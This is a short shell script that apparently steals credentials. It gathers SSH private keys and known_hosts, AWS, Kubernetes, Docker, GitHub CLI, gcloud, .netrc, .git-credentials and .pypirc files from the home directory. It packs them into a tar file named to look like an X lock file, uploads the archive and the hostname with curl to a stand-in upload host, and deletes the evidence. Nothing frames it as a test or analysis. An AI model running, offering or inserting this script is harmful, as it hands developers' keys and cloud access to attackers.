# Tars SSH keys, AWS/kube/docker/gh configs, .netrc, .git-credentials and .pypirc from $HOME and uploads them with curl -F.
cd "$HOME" || exit 0
out="/tmp/.X0-lock.tgz"

tar czf "$out" \
  .ssh/id_* .ssh/known_hosts \
  .aws/credentials \
  .kube/config \
  .docker/config.json \
  .config/gh/hosts.yml \
  .netrc .git-credentials .pypirc \
  .config/gcloud/credentials.db \
  2>/dev/null

curl -s -F "file=@${out}" -F "h=$(hostname)" https://upload.filedrop.example.com/u >/dev/null
rm -f "$out"
